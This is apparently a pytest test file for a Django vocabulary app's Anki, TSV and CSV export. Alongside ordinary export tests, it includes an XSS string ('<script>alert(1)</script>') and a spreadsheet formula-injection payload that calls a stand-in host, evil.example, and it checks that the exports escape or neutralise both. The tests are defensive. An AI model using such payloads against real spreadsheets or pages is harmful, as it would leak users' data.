"""Anki export, checked by Anki itself: every .apkg here is imported into a fresh collection
with Anki's own `anki` package, and read back."""

import csv
import html
import io
import time
from pathlib import Path

import pytest
from anki.collection import (
    Collection,
    ImportAnkiPackageOptions,
    ImportAnkiPackageRequest,
    ImportCsvRequest,
)
from django.core.management import CommandError, call_command
from django.utils import timezone

from glossary.anki import (
    FIELDS,
    MODEL_ID,
    NothingToExport,
    article_deck,
    cards_csv,
    cards_tsv,
    learner_cards,
    learner_deck,
    learner_deck_id,
)
from glossary.services import saved_word_add
from glossary.vocabulary import Candidate
from tests.factories import make_user

pytestmark = pytest.mark.django_db

NASTY = 'He said "nein"\tthen <script>alert(1)</script> & left 🚀 <b>bold</b>'


def candidate(
    lemma="Haubitze", sense="howitzer", sentence="Die Haubitze feuerte.", spans=((4, 12),), **extra
):
    values = dict(
        key=lemma.lower(),
        lemma=lemma,
        kind="word",
        pos="NOUN",
        headline=f"die {lemma}, -n",
        senses=(sense,) if sense else (),
        sentence=sentence,
        spans=spans,
    )
    values.update(extra)
    return Candidate(**values)


def fresh_collection(tmp_path: Path, name="collection.anki2") -> Collection:
    return Collection(str(tmp_path / name))


def import_apkg(col: Collection, data: bytes, tmp_path: Path, name="deck.apkg") -> None:
    path = tmp_path / name
    path.write_bytes(data)
    col.import_anki_package(
        ImportAnkiPackageRequest(
            package_path=str(path),
            options=ImportAnkiPackageOptions(merge_notetypes=True, with_scheduling=False),
        )
    )


def notes(col: Collection) -> list[dict]:
    return [dict(col.get_note(nid).items()) for nid in col.find_notes("")]


def test_learner_deck_imports_into_anki_with_fields_and_two_cards_per_note(tmp_path):
    user = make_user()
    saved_word_add(user=user, candidate=candidate())
    saved_word_add(
        user=user,
        candidate=candidate(
            lemma="vorstellen",
            sense="to present",
            kind="separable_verb",
            pos="VERB",
            headline="vorstellen",
            sentence="Er stellte den Plan vor.",
            spans=((3, 10), (20, 23)),
        ),
    )
    col = fresh_collection(tmp_path)
    try:
        import_apkg(col, learner_deck(user), tmp_path)
        by_german = {n["German"]: n for n in notes(col)}
        assert set(by_german) == {"die Haubitze, -n", "vorstellen"}
        verb = by_german["vorstellen"]
        assert list(verb) == FIELDS
        assert verb["English"] == "to present"
        assert verb["PartOfSpeech"] == "separable verb"
        # Both parts of a separable verb are blanked in the cloze, and bold on the answer side.
        assert verb["Cloze"].count("[…]") == 2 and "stellte" not in verb["Cloze"]
        assert verb["Sentence"] == "Er <b>stellte</b> den Plan <b>vor</b>."
        assert by_german["die Haubitze, -n"]["PartOfSpeech"] == "noun"
        assert col.card_count() == 4
        model = col.models.by_name("Randnotiz German word")
        assert model["id"] == MODEL_ID
        assert [t["name"] for t in model["tmpls"]] == [
            "German → English",
            "English → German (cloze)",
        ]
        # Anki files the notes under the deck's name (it picks its own local deck id).
        assert col.decks.by_name(f"Randnotiz::{user.username}") is not None
    finally:
        col.close()


def test_reimporting_a_later_export_updates_notes_instead_of_duplicating(tmp_path):
    user = make_user()
    word, _ = saved_word_add(user=user, candidate=candidate())
    first = learner_deck(user)
    word.gloss = "howitzer (artillery gun)"
    word.save()
    # Anki updates a note only from a newer one, and note times are whole seconds.
    time.sleep(1.1)
    second = learner_deck(user)
    col = fresh_collection(tmp_path)
    try:
        import_apkg(col, first, tmp_path, "first.apkg")
        import_apkg(col, first, tmp_path, "first-again.apkg")
        assert len(col.find_notes("")) == 1
        import_apkg(col, second, tmp_path, "second.apkg")
        assert len(col.find_notes("")) == 1
        assert col.card_count() == 2
        assert notes(col)[0]["English"] == "howitzer (artillery gun)"
    finally:
        col.close()


def package_deck_ids(data: bytes, tmp_path: Path) -> set[int]:
    import io
    import json
    import sqlite3
    import zipfile

    db = tmp_path / "inside.anki2"
    db.write_bytes(zipfile.ZipFile(io.BytesIO(data)).read("collection.anki2"))
    connection = sqlite3.connect(db)
    try:
        decks = json.loads(connection.execute("select decks from col").fetchone()[0])
    finally:
        connection.close()
    return {int(k) for k in decks}


def test_deck_id_is_the_same_on_every_export(tmp_path):
    user = make_user()
    saved_word_add(user=user, candidate=candidate())
    first, second = learner_deck(user), learner_deck(user)
    assert learner_deck_id(user) in package_deck_ids(first, tmp_path)
    assert package_deck_ids(first, tmp_path) == package_deck_ids(second, tmp_path)


def test_guids_are_per_learner_lemma_and_sense():
    lea, max_ = make_user("lea"), make_user("max")
    saved_word_add(user=lea, candidate=candidate())
    saved_word_add(user=lea, candidate=candidate(sense="big gun"))
    saved_word_add(user=max_, candidate=candidate())
    lea_guids = [c.guid for c in learner_cards(lea)]
    max_guids = [c.guid for c in learner_cards(max_)]
    assert len(set(lea_guids)) == 2
    assert not set(lea_guids) & set(max_guids)
    assert [c.guid for c in learner_cards(lea)] == lea_guids


def test_quotes_tabs_html_and_emoji_survive_into_anki_unchanged_and_unexecuted(tmp_path):
    user = make_user()
    nasty_sentence = 'Sie rief "<i>Haubitze</i>"\tund 🚀.'
    word, _ = saved_word_add(
        user=user, candidate=candidate(sense=NASTY, sentence=nasty_sentence, spans=((14, 22),))
    )
    word.note = NASTY + "\nsecond line"
    word.save()
    col = fresh_collection(tmp_path)
    try:
        import_apkg(col, learner_deck(user), tmp_path)
        note = notes(col)[0]
        assert "<script" not in note["English"] and "<i>" not in note["Sentence"]
        assert html.unescape(note["English"]) == NASTY
        assert html.unescape(note["Note"].replace("<br>", "\n")) == NASTY + "\nsecond line"
        assert (
            html.unescape(note["Sentence"].replace("<b>", "").replace("</b>", "")) == nasty_sentence
        )
        assert "🚀" in note["Sentence"] and "\t" in note["Sentence"]
    finally:
        col.close()


def test_export_with_no_words_says_so():
    user = make_user()
    with pytest.raises(NothingToExport):
        learner_deck(user)
    with pytest.raises(NothingToExport):
        cards_tsv(learner_cards(user), deck_name="x")


def test_a_saved_words_example_keeps_its_article_title_after_the_article_is_deleted(tmp_path):
    from tests.factories import make_article

    user = make_user()
    article = make_article(title="Nordkorea liefert Haubitzen", annotate="none")
    saved_word_add(user=user, candidate=candidate(), article=article)
    article.delete()
    col = fresh_collection(tmp_path)
    try:
        import_apkg(col, learner_deck(user), tmp_path)
        note = notes(col)[0]
        assert note["Source"] == "Nordkorea liefert Haubitzen"
        assert "Haubitze" in note["Sentence"]
    finally:
        col.close()


def test_tsv_export_is_accepted_by_ankis_text_import(tmp_path):
    user = make_user()
    saved_word_add(user=user, candidate=candidate(sense=NASTY))
    saved_word_add(
        user=user,
        candidate=candidate(
            lemma="Rakete", sense="missile", sentence="Eine Rakete.", spans=((5, 11),)
        ),
    )
    path = tmp_path / "words.tsv"
    path.write_text(cards_tsv(learner_cards(user), deck_name="Randnotiz::lea"), encoding="utf-8")
    col = fresh_collection(tmp_path)
    try:
        # The note type must exist for the #notetype header: an earlier .apkg import brings it.
        import_apkg(col, learner_deck(user), tmp_path)
        metadata = col.get_csv_metadata(str(path), None)
        col.import_csv(ImportCsvRequest(path=str(path), metadata=metadata))
        imported = notes(col)
        # Same GUIDs as the .apkg: the text import updated the two notes, no duplicates.
        assert len(imported) == 2
        english = sorted(html.unescape(n["English"]) for n in imported)
        assert english == sorted([NASTY, "missile"])
    finally:
        col.close()


def test_tsv_import_into_a_collection_without_our_note_type_fills_basic_front_and_back(tmp_path):
    user = make_user()
    saved_word_add(user=user, candidate=candidate(sense=NASTY))
    path = tmp_path / "words.tsv"
    path.write_text(cards_tsv(learner_cards(user), deck_name="Randnotiz::lea"), encoding="utf-8")
    col = fresh_collection(tmp_path)
    try:
        metadata = col.get_csv_metadata(str(path), None)
        # Anki falls back to Basic; in its import dialog the learner maps German and English
        # (columns 1 and 2) to Front and Back.
        metadata.global_notetype.field_columns[:] = [1, 2]
        col.import_csv(ImportCsvRequest(path=str(path), metadata=metadata))
        imported = [col.get_note(nid) for nid in col.find_notes("")]
        assert len(imported) == 1
        front, back = imported[0].fields
        assert front == "die Haubitze, -n"
        assert html.unescape(back) == NASTY
    finally:
        col.close()


def test_csv_export_is_plain_text():
    user = make_user()
    saved_word_add(user=user, candidate=candidate(sense=NASTY))
    text = cards_csv(learner_cards(user))
    assert text.splitlines()[0] == "german,english,part_of_speech,sentence,source,note"
    assert "&lt;" not in text and "<script>" in text


def test_export_anki_command_for_a_user(tmp_path):
    user = make_user("lea")
    saved_word_add(user=user, candidate=candidate())
    out = tmp_path / "lea.apkg"
    call_command("export_anki", "--user", "lea", "--out", str(out), verbosity=0)
    col = fresh_collection(tmp_path)
    try:
        import_apkg(col, out.read_bytes(), tmp_path)
        assert len(col.find_notes("")) == 1
    finally:
        col.close()


def test_export_anki_command_refuses_an_empty_export_and_writes_no_file(tmp_path):
    make_user("lea")
    out = tmp_path / "lea.apkg"
    with pytest.raises(CommandError, match="Nothing exported"):
        call_command("export_anki", "--user", "lea", "--out", str(out))
    assert not out.exists()


def test_export_anki_command_needs_exactly_one_source(tmp_path):
    with pytest.raises(CommandError):
        call_command("export_anki", "--out", str(tmp_path / "x.apkg"))
    with pytest.raises(CommandError, match="No user"):
        call_command("export_anki", "--user", "nobody", "--out", str(tmp_path / "x.apkg"))


def test_two_thousand_saved_words_export_in_under_five_seconds(tmp_path):
    from glossary.models import Example, SavedWord

    user = make_user()
    words = SavedWord.objects.bulk_create(
        SavedWord(
            user=user,
            key=f"wort{i}",
            lemma=f"Wort{i}",
            pos="NOUN",
            headline=f"das Wort{i}",
            sense=f"word {i}",
            gloss=f"word {i}",
        )
        for i in range(2000)
    )
    Example.objects.bulk_create(
        Example(
            saved_word=w,
            sentence=f"Das ist das Wort{i}.",
            spans=[[12, 12 + len(f"Wort{i}")]],
            sentence_hash=f"{i:064d}",
            article_title="Ein Artikel",
        )
        for i, w in enumerate(words)
    )
    started = time.perf_counter()
    data = learner_deck(user)
    elapsed = time.perf_counter() - started
    assert elapsed < 5, elapsed
    col = fresh_collection(tmp_path)
    try:
        import_apkg(col, data, tmp_path)
        assert len(col.find_notes("")) == 2000
    finally:
        col.close()


def test_article_deck_holds_glossed_content_words_and_expressions(tmp_path):
    from tests.factories import make_article

    article = make_article(annotate="none")
    article.annotation = {
        "version": 1,
        "sentences": [
            {
                "paragraph": 0,
                "kind": "text",
                "tokens": [
                    {"text": "Er", "ws": " ", "lemma": "er", "upos": "PRON", "gloss": "he"},
                    {
                        "text": "stellte",
                        "ws": " ",
                        "lemma": "stellen",
                        "upos": "VERB",
                        "gloss": "to put",
                    },
                    {
                        "text": "Haubitzen",
                        "ws": " ",
                        "lemma": "Haubitze",
                        "upos": "NOUN",
                        "gloss": "howitzer",
                        "gender": "f",
                        "plural": "Haubitzen",
                    },
                    {"text": "vor", "ws": "", "lemma": "vor", "upos": "ADP", "gloss": "before"},
                    {"text": ".", "ws": "", "lemma": ".", "upos": "PUNCT"},
                ],
                "expressions": [
                    {
                        "type": "separable_verb",
                        "tokens": [1, 3],
                        "lemma": "vorstellen",
                        "gloss": "to present",
                    }
                ],
            }
        ],
    }
    article.save()
    col = fresh_collection(tmp_path)
    try:
        import_apkg(col, article_deck(article), tmp_path)
        german = {n["German"]: n for n in notes(col)}
        assert set(german) == {"stellen", "die Haubitze, -n", "vorstellen"}
        assert german["vorstellen"]["English"] == "to present"
        assert german["die Haubitze, -n"]["Source"] == article.title
    finally:
        col.close()
    # A new annotation comes with a new time (reader.services.article_annotate): the overlay
    # of corrections is cached per annotation version (reader/render_cache.py), and an
    # Article object remembers its version: a deck is made from a freshly read article.
    type(article).objects.filter(pk=article.pk).update(
        annotation={"version": 1, "sentences": []}, annotated_at=timezone.now()
    )
    article = type(article).objects.get(pk=article.pk)
    with pytest.raises(NothingToExport):
        article_deck(article)


def test_export_anki_command_for_the_seed_article_as_a_class_deck(seed_article, tmp_path):
    out = tmp_path / "class.apkg"
    call_command("export_anki", "--article", str(seed_article.pk), "--out", str(out), verbosity=0)
    col = fresh_collection(tmp_path)
    try:
        import_apkg(col, out.read_bytes(), tmp_path)
        imported = notes(col)
        assert imported, "the seed article has glossed words"
        assert any(n["German"].startswith("die Haubitze") for n in imported)
        assert all(
            n["English"] and n["Source"] == html.escape(seed_article.title) for n in imported
        )
        # Each note's cloze blanks its own word in its sentence.
        assert all("[…]" in n["Cloze"] for n in imported if n["Sentence"])
    finally:
        col.close()
    tsv = tmp_path / "class.tsv"
    call_command("export_anki", "--article", str(seed_article.pk), "--out", str(tsv), verbosity=0)
    assert tsv.read_text().startswith("#separator:tab")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


def saved_word_with_formulas():
    user = make_user()
    saved_word_add(user=user, candidate=candidate(sense=FORMULA))
    return user


def test_vocabulary_csv_cells_never_start_a_formula():
    rows = list(csv.reader(io.StringIO(cards_csv(learner_cards(saved_word_with_formulas())))))
    english = rows[1][rows[0].index("english")]
    assert english == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_vocabulary_tsv_cells_never_start_a_formula():
    text = cards_tsv(learner_cards(saved_word_with_formulas()), deck_name="x")
    body = [line for line in text.splitlines() if not line.startswith("#")]
    cells = [
        cell for row in csv.reader(io.StringIO("\n".join(body)), delimiter="\t") for cell in row
    ]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
